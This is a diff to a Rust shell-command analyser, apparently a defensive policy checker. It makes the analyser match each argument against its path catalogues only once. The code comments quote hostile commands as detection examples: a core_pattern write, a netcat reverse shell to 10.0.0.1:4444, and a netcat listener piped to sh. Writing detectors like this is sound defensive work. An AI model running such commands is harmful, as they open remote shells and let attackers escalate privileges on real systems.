@@ -2,7 +2,7 @@
 //! network destination and inline script it found against the policy's catalogues.
 
 use super::budget::Budget;
-use super::catalogue::ExecCatalogue;
+use super::catalogue::{ExecCatalogue, HashSet};
 use super::net::{destinations, Destination};
 use super::paths::path_candidates;
 use super::shell::{analyse, Analysis, Invocation};
@@ -32,8 +32,9 @@ fn raise_analysis(exec: &ExecCatalogue, analysis: &Analysis, stdin: bool, out: &
     for payload in &analysis.payloads {
         out.raise("exec-encoded-payload", payload.clone());
     }
+    let mut checked = CheckedPaths::default();
     for inv in &analysis.invocations {
-        invocation(exec, inv, stdin, out);
+        invocation(exec, inv, stdin, &mut checked, out);
     }
     for code in &analysis.code {
         inline_code(exec, code, out);
@@ -58,7 +59,22 @@ pub(super) fn describe(inv: &Invocation) -> String {
     format!("`{}`", shorten(&text, SHOWN))
 }
 
-fn invocation(exec: &ExecCatalogue, inv: &Invocation, stdin: bool, out: &mut Signals) {
+/// Texts already matched against the path catalogues in this analysis. A wrapper's arguments
+/// are the wrapped command's too (`timeout 60 nmap ARGS` and `nmap ARGS`), and a path finding
+/// names only the path, so each text is matched once.
+#[derive(Default)]
+struct CheckedPaths<'a> {
+    named: HashSet<&'a str>,
+    written: HashSet<&'a str>,
+}
+
+fn invocation<'a>(
+    exec: &ExecCatalogue,
+    inv: &'a Invocation,
+    stdin: bool,
+    checked: &mut CheckedPaths<'a>,
+    out: &mut Signals,
+) {
     let plain_args = || {
         inv.args
             .iter()
@@ -84,12 +100,16 @@ fn invocation(exec: &ExecCatalogue, inv: &Invocation, stdin: bool, out: &mut Sig
     }
 
     for text in plain_args().chain(&inv.redirects) {
-        paths(exec, text, out);
+        if checked.named.insert(text) {
+            paths(exec, text, out);
+        }
     }
     // `echo '|/tmp/x' > core_pattern`, `... | tee /proc/sys/kernel/core_pattern`: written.
     let writer = exec.writers.contains(&inv.program);
     for text in plain_args().filter(|_| writer).chain(&inv.redirects) {
-        written_paths(exec, text, out);
+        if checked.written.insert(text) {
+            written_paths(exec, text, out);
+        }
     }
     // `cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f`, `nc -l 4444 | sh`: a shell whose
     // input or output is a network connection.
